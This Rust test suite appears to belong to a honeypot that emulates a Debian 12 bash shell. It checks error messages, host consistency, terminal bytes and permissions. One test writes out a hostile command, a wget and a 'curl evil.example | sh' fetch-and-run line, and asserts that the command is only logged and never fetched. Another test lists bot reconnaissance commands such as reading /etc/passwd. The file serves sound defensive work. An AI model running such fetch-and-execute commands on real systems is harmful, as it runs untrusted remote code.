//! Shell behaviour checked against what bash and coreutils print on Debian 12.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::Arc;

use super::host::{Host, HostConfig};
use super::{Entry, Out, Pty, Shell, ShellOptions};
use crate::persona::Persona;
use crate::spec::DeckySpec;

fn host_for(name: &str, distro: &str) -> Arc<Host> {
    let spec = DeckySpec::parse(&format!(
        "name = \"{name}\"\nhostname = \"web-01\"\nbind = [\"127.0.0.1\"]\ndistro = \"{distro}\"\n[services.redis]"
    ))
    .unwrap();
    Arc::new(Host::new(
        Arc::new(Persona::new(&spec)),
        &HostConfig {
            accounts: vec!["admin".into()],
            ssh_version: None,
            ssh_host_keys: vec![(
                "ssh_host_ed25519_key.pub".into(),
                "ssh-ed25519 AAAA root@web-01\n".into(),
            )],
        },
    ))
}

fn shell(entry: Entry, user: &str) -> Shell {
    Shell::new(
        host_for("decky-t", "debian"),
        ShellOptions {
            user: user.into(),
            entry,
            pty: (entry != Entry::Exec).then(|| Pty {
                term: "xterm-256color".into(),
                cols: 80,
                rows: 24,
            }),
            peer: "198.51.100.7:50000".parse().unwrap(),
            local: "192.0.2.10:22".parse().unwrap(),
            env: Vec::new(),
            tty: None,
        },
    )
}

/// (stdout, stderr, event types) of one exec-mode command line.
fn run(sh: &mut Shell, line: &str) -> (String, String, Vec<super::Draft>) {
    let mut out = Vec::new();
    let mut err = Vec::new();
    let mut ev = Vec::new();
    for o in sh.run(line) {
        match o {
            Out::Stdout(b) => out.extend(b),
            Out::Stderr(b) => err.extend(b),
            Out::Emit(d) => ev.push(d),
            Out::Pause(_) | Out::Exit(_) => {}
        }
    }
    (
        String::from_utf8(out).unwrap(),
        String::from_utf8(err).unwrap(),
        ev,
    )
}

#[test]
fn error_semantics_match_gnu_and_bash() {
    let mut sh = shell(Entry::Exec, "root");
    assert_eq!(
        run(&mut sh, "cat /nope").1,
        "cat: /nope: No such file or directory\n"
    );
    assert_eq!(run(&mut sh, "foo").1, "bash: foo: command not found\n");
    assert_eq!(run(&mut sh, "echo $?").0, "127\n");
    assert_eq!(
        run(&mut sh, "rm /nope").1,
        "rm: cannot remove '/nope': No such file or directory\n"
    );
    let (o, e, _) = run(&mut sh, "rm -f /nope; echo $?");
    assert_eq!((o.as_str(), e.as_str()), ("0\n", ""));
    assert_eq!(
        run(&mut sh, "ls /nope").1,
        "ls: cannot access '/nope': No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "cd /nope").1,
        "bash: cd: /nope: No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "cd /etc/passwd").1,
        "bash: cd: /etc/passwd: Not a directory\n"
    );
    assert_eq!(run(&mut sh, "cat /etc").1, "cat: /etc: Is a directory\n");
    assert_eq!(
        run(&mut sh, "rm /etc").1,
        "rm: cannot remove '/etc': Is a directory\n"
    );
    assert_eq!(
        run(&mut sh, "rm /proc/cpuinfo").1,
        "rm: cannot remove '/proc/cpuinfo': Operation not permitted\n"
    );
    assert_eq!(
        run(&mut sh, "echo x > /proc/newfile").1,
        "bash: /proc/newfile: No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "touch /proc/x").1,
        "touch: cannot touch '/proc/x': No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "mkdir /tmp").1,
        "mkdir: cannot create directory ‘/tmp’: File exists\n"
    );
    assert_eq!(
        run(&mut sh, "chmod 777 /nope").1,
        "chmod: cannot access '/nope': No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "echo a;;").1,
        "bash: -c: line 1: syntax error near unexpected token `;;'\nbash: -c: line 1: `echo a;;'\n"
    );
    assert_eq!(run(&mut sh, "which foo; echo $?").0, "1\n");
    assert_eq!(
        run(&mut sh, "which ls cat").0,
        "/usr/bin/ls\n/usr/bin/cat\n"
    );
    assert_eq!(run(&mut sh, "type ls").0, "ls is /usr/bin/ls\n");
}

#[test]
fn one_consistent_host() {
    let mut sh = shell(Entry::Exec, "root");
    let host = Arc::clone(sh.host());
    assert_eq!(run(&mut sh, "uname -a").0, format!("{}\n", host.uname_a()));
    assert_eq!(
        run(&mut sh, "hostname").0,
        run(&mut sh, "cat /etc/hostname").0
    );
    assert!(run(&mut sh, "cat /proc/version").0.contains(host.kernel));
    assert_eq!(run(&mut sh, "uname -r").0, format!("{}\n", host.kernel));
    assert_eq!(
        run(&mut sh, "cat /proc/cpuinfo | grep 'model name' | wc -l").0,
        format!("{}\n", host.cores)
    );
    assert_eq!(run(&mut sh, "nproc").0, format!("{}\n", host.cores));
    let free = run(&mut sh, "free -m | grep Mem | awk '{print $2}'").0;
    assert_eq!(free, format!("{}\n", host.mem.total / 1024));
    let meminfo = run(&mut sh, "grep MemTotal /proc/meminfo").0;
    assert!(meminfo.contains(&host.mem.total.to_string()), "{meminfo}");
    assert_eq!(
        run(&mut sh, "id").0,
        "uid=0(root) gid=0(root) groups=0(root)\n"
    );
    assert_eq!(run(&mut sh, "whoami").0, "root\n");
    assert!(run(&mut sh, "cat /etc/os-release").0.contains("bookworm"));
    assert_eq!(run(&mut sh, "ssh -V").1, format!("{}\n", host.ssh_dash_v()));
    assert!(
        host.ssh_dash_v()
            .starts_with("OpenSSH_9.2p1 Debian-2+deb12u3, OpenSSL")
    );
    assert_eq!(
        run(&mut sh, "cat /etc/ssh/ssh_host_ed25519_key.pub").0,
        "ssh-ed25519 AAAA root@web-01\n"
    );
    let ps = run(&mut sh, "ps aux").0;
    assert!(ps.starts_with("USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nroot           1 "), "{ps}");
    assert!(ps.contains("sshd: /usr/sbin/sshd -D [listener]"));
    let up = run(&mut sh, "uptime").0;
    assert!(up.contains(" up ") && up.contains("load average:"), "{up}");
    let since = run(&mut sh, "uptime -s").0;
    let boot = time::OffsetDateTime::from_unix_timestamp(host.boot_time()).unwrap();
    let want = format!(
        "{:04}-{:02}-{:02} ",
        boot.year(),
        u8::from(boot.month()),
        boot.day()
    );
    assert!(since.starts_with(&want) && since.len() == 20, "{since:?}");
    let admin = run(&mut sh, "id admin").0;
    assert!(
        admin.starts_with("uid=1000(admin) gid=1000(admin) groups=1000(admin),24(cdrom)"),
        "{admin}"
    );
    let other = shell(Entry::Exec, "root");
    assert_eq!(other.host().mac, host.mac, "same seed, same machine");
}

#[test]
fn shell_language() {
    let mut sh = shell(Entry::Exec, "root");
    assert_eq!(
        run(&mut sh, "for i in 1 2 3; do echo $i; done").0,
        "1\n2\n3\n"
    );
    assert_eq!(
        run(&mut sh, "echo `whoami` $(id -u) \"$HOME\"").0,
        "root 0 /root\n"
    );
    assert_eq!(run(&mut sh, "echo -e '\\x6F\\x6B'").0, "ok\n");
    assert_eq!(run(&mut sh, "false || echo no && echo yes").0, "no\nyes\n");
    assert_eq!(
        run(
            &mut sh,
            "if [ -d /tmp ]; then echo dir; else echo nodir; fi"
        )
        .0,
        "dir\n"
    );
    assert_eq!(run(&mut sh, "echo $((3+4*2))").0, "11\n");
    assert_eq!(
        run(&mut sh, "X=5; export X; echo ${X:-none} ${Y:-none}").0,
        "5 none\n"
    );
    assert_eq!(
        run(&mut sh, "cd /tmp && echo hi > a.txt && cat a.txt && pwd").0,
        "hi\n/tmp\n"
    );
    assert_eq!(run(&mut sh, "ls /tmp/*.txt").0, "/tmp/a.txt\n");
    assert_eq!(run(&mut sh, "cat nope 2>/dev/null; echo $?").0, "1\n");
    assert_eq!(run(&mut sh, "cat nope 2>&1 | wc -l").0, "1\n");
    assert_eq!(
        run(&mut sh, "chmod +x a.txt && ls -l a.txt | cut -c1-10").0,
        "-rwxr-xr-x\n"
    );
    assert_eq!(
        run(&mut sh, "rm a.txt && ls a.txt").1,
        "ls: cannot access 'a.txt': No such file or directory\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "echo 'sh script' > s.sh; echo 'echo from-script' > s.sh; sh s.sh"
        )
        .0,
        "from-script\n"
    );
    assert_eq!(run(&mut sh, "exit 3").2.len(), 1);
    assert_eq!(sh.exited(), Some(3));
}

#[test]
fn downloads_are_recorded_never_fetched() {
    let mut sh = shell(Entry::Exec, "root");
    let (out, err, ev) = run(
        &mut sh,
        "cd /tmp; wget http://203.0.113.9/x.sh; curl -s http://evil.example/y | sh",
    );
    assert_eq!(out, "");
    assert!(
        err.contains("Connecting to 203.0.113.9:80... failed: Connection refused."),
        "{err}"
    );
    let kinds: Vec<(&str, Option<&str>)> =
        ev.iter().map(|d| (d.event_type, d.get("url"))).collect();
    assert_eq!(
        kinds,
        [
            ("command", None),
            ("download_attempt", Some("http://203.0.113.9/x.sh")),
            ("download_attempt", Some("http://evil.example/y")),
        ]
    );
    assert_eq!(ev[1].get("tool"), Some("wget"));
    assert_eq!(ev[2].get("tool"), Some("curl"));
    assert_eq!(
        ev[0].get("cmd"),
        Some("cd /tmp; wget http://203.0.113.9/x.sh; curl -s http://evil.example/y | sh")
    );
    assert_eq!(ev[0].get("cwd"), Some("/root"));
    assert_eq!(ev[0].get("user"), Some("root"));
}

#[test]
fn interactive_terminal_bytes_match_bash() {
    let mut sh = shell(Entry::SshLogin, "root");
    let banner: Vec<u8> = sh
        .start()
        .into_iter()
        .filter_map(|o| {
            if let Out::Stdout(b) = o {
                Some(b)
            } else {
                None
            }
        })
        .flatten()
        .collect();
    let banner = String::from_utf8(banner).unwrap();
    assert!(banner.starts_with("Linux web-01 6.1.0-"), "{banner}");
    assert!(banner.contains("\r\nLast login: "));
    assert!(banner.ends_with("\x1b[?2004hroot@web-01:~# "), "{banner:?}");
    let out: Vec<u8> = sh
        .input(b"ls /nope\r")
        .into_iter()
        .filter_map(|o| match o {
            Out::Stdout(b) | Out::Stderr(b) => Some(b),
            _ => None,
        })
        .flatten()
        .collect();
    assert_eq!(
        String::from_utf8(out).unwrap(),
        "ls /nope\r\n\x1b[?2004l\rls: cannot access '/nope': No such file or directory\r\n\x1b[?2004hroot@web-01:~# "
    );
    let out = sh.input(b"echo \"abc\r");
    assert!(matches!(out.last(), Some(Out::Stdout(b)) if b.ends_with(b"> ")));
    let out = sh.input(b"def\"\r");
    assert!(
        out.iter()
            .any(|o| matches!(o, Out::Stdout(b) if b == b"abc\r\ndef\r\n")),
        "{out:?}"
    );
    let out = sh.input(b"exit\r");
    assert!(out.contains(&Out::Exit(0)));
}

#[test]
fn non_root_permissions() {
    let mut sh = shell(Entry::Exec, "admin");
    assert_eq!(
        run(&mut sh, "cat /etc/shadow").1,
        "cat: /etc/shadow: Permission denied\n"
    );
    assert_eq!(
        run(&mut sh, "ls /root").1,
        "ls: cannot open directory '/root': Permission denied\n"
    );
    assert_eq!(run(&mut sh, "pwd").0, "/home/admin\n");
    assert_eq!(
        run(&mut sh, "touch /etc/x").1,
        "touch: cannot touch '/etc/x': Permission denied\n"
    );
    assert_eq!(run(&mut sh, "sudo id -u").0, "0\n");
}

#[test]
fn garbage_never_panics() {
    let mut sh = shell(Entry::SshLogin, "root");
    let _ = sh.start();
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..300 {
        let mut buf = Vec::new();
        for _ in 0..64 {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            let alphabet = b"$()`'\"|;&<>{}[]*?~\\ \n\rabc019-xX\x03\x04\x1b[A";
            buf.push(alphabet[(x % alphabet.len() as u64) as usize]);
        }
        let _ = sh.input(&buf);
        if sh.exited().is_some() {
            sh = shell(Entry::SshLogin, "root");
        }
    }
}

#[test]
fn bot_recon_set_answers_like_the_real_tools() {
    let mut sh = shell(Entry::Exec, "root");
    let host = Arc::clone(sh.host());
    for cmd in [
        "uname -a",
        "id",
        "whoami",
        "w",
        "uptime",
        "free -m",
        "cat /proc/cpuinfo",
        "ps aux",
        "ls -la",
        "cd /tmp",
        "pwd",
        "cat /etc/passwd",
        "echo hi",
        "history",
        "export",
        "which ls",
        "chmod +x /tmp",
        "rm -f /tmp/none",
        "hostname",
        "ssh -V",
        "nproc",
        "lscpu",
        "df -h",
        "crontab -l",
        "ip a",
        "top",
    ] {
        let (out, err, _) = run(&mut sh, cmd);
        assert!(!err.contains("command not found"), "{cmd}: {err}");
        assert!(
            !out.is_empty()
                || !err.is_empty()
                || ["cd /tmp", "chmod +x /tmp", "rm -f /tmp/none", "history"].contains(&cmd),
            "{cmd} printed nothing"
        );
    }
    let w = run(&mut sh, "w").0;
    let lines: Vec<&str> = w.lines().collect();
    assert_eq!(
        lines[1],
        "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT"
    );
    assert!(
        lines[2].starts_with("root     pts/") && lines[2].contains("198.51.100.7"),
        "{w}"
    );
    let free = run(&mut sh, "free -m").0;
    assert!(free.starts_with("               total        used        free      shared  buff/cache   available\nMem:   "), "{free}");
    let cpu = run(&mut sh, "cat /proc/cpuinfo").0;
    assert!(cpu.starts_with("processor\t: 0\nvendor_id\t: "), "{cpu}");
    assert!(cpu.contains(&format!("model name\t: {}\n", host.cpu.name)));
    assert_eq!(
        run(&mut sh, "grep -c processor /proc/cpuinfo").0,
        format!("{}\n", host.cores)
    );
    let lscpu = run(&mut sh, "lscpu | grep 'Model name'").0;
    assert!(lscpu.contains(host.cpu.name), "{lscpu}");
    let la = run(&mut sh, "cd /root; ls -la").0;
    assert!(la.starts_with("total "), "{la}");
    assert!(
        la.contains(" .bash_history\n") && la.contains(" .bashrc\n"),
        "{la}"
    );
    assert!(
        la.lines().nth(1).unwrap().starts_with("drwx------ "),
        "{la}"
    );
    // `bash -c history` has no history; a login shell has the file's and its own.
    assert_eq!(run(&mut sh, "history").0, "");
    let mut login = shell(Entry::SshLogin, "root");
    let _ = login.start();
    let _ = login.input(b"id\r");
    let hist: Vec<u8> = login
        .input(b"history\r")
        .into_iter()
        .filter_map(|o| {
            if let Out::Stdout(b) = o {
                Some(b)
            } else {
                None
            }
        })
        .flatten()
        .collect();
    let hist = String::from_utf8(hist).unwrap();
    assert!(
        hist.contains("  id\r\n") && hist.contains("  history\r\n"),
        "{hist}"
    );
    assert!(
        hist.contains("    1  "),
        "the .bash_history lines come first: {hist}"
    );
    assert!(
        run(&mut sh, "export")
            .0
            .contains("declare -x HOME=\"/root\"\n")
    );
    let passwd = run(&mut sh, "cat /etc/passwd").0;
    assert!(passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"));
    assert!(passwd.contains("admin:x:1000:1000:admin,,,:/home/admin:/bin/bash\n"));
    let top = run(&mut sh, "uptime").0;
    assert!(
        top.starts_with(' ') && top.contains(",  1 user,  load average: "),
        "{top}"
    );
}
